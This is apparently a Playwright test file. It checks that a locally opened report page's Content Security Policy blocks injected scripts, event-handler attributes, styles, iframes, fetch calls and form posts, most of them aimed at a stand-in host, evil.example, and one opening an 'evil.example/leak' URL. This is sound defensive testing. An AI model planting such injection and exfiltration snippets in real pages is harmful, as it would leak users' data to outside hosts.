"""One file, opened from disk, that loads nothing and sends nothing: the browser itself sees to that."""

import pytest
from playwright.sync_api import Page

from tests.report.browser.conftest import Watch

pytestmark = pytest.mark.long

UNHEARD = 3000
"""Milliseconds after which no refusal is to be expected any more."""

ATTEMPTS = {
    "an image": "document.body.append(Object.assign(new Image(), {src: 'https://evil.example/x.png'}))",
    "a file beside it": "document.body.append(Object.assign(new Image(), {src: 'final.md'}))",
    "a script": "document.body.append(Object.assign(document.createElement('script'), {src: 'https://evil.example/x.js'}))",
    "a script of its own": "document.body.append(Object.assign(document.createElement('script'), {text: 'window.__pwned = 1'}))",
    "an attribute": "document.body.setAttribute('onclick', 'window.__pwned = 1'); document.body.click()",
    "a style": "document.body.append(Object.assign(document.createElement('style'), {textContent: 'body {color: red}'}))",
    "a style attribute": "document.body.setAttribute('style', 'color: red')",
    "a frame": "document.body.append(Object.assign(document.createElement('iframe'), {src: 'https://evil.example/'}))",
    "a connection": "fetch('https://evil.example/').catch(() => {})",
    "a form": "document.body.append(Object.assign(document.createElement('form'), {action: 'https://evil.example/'})); "
    "document.querySelector('form').submit()",
}


def test_the_policy_refuses_whatever_would_run_or_leave(tab: Page, watch: Watch) -> None:
    refused = {
        what: tab.evaluate(f"""() => new Promise((resolve) => {{
            document.addEventListener("securitypolicyviolation", (event) => resolve(event.disposition), {{once: true}});
            {attempt};
            setTimeout(() => resolve("nothing was refused"), {UNHEARD});
        }})""")
        for what, attempt in ATTEMPTS.items()
    }

    assert refused == dict.fromkeys(ATTEMPTS, "enforce")
    assert tab.evaluate("window.__pwned") is None
    assert watch.left == []
    watch.said.clear()  # the browser has told of what it refused
    watch.requests.clear()


def test_the_guard_of_these_tests_sees_what_no_policy_holds_back(tab: Page, watch: Watch) -> None:
    with tab.context.expect_event("request"):
        tab.evaluate("window.open('https://evil.example/leak')")

    assert watch.requests == watch.left == ["https://evil.example/leak"]
    watch.requests.clear()
    watch.left.clear()
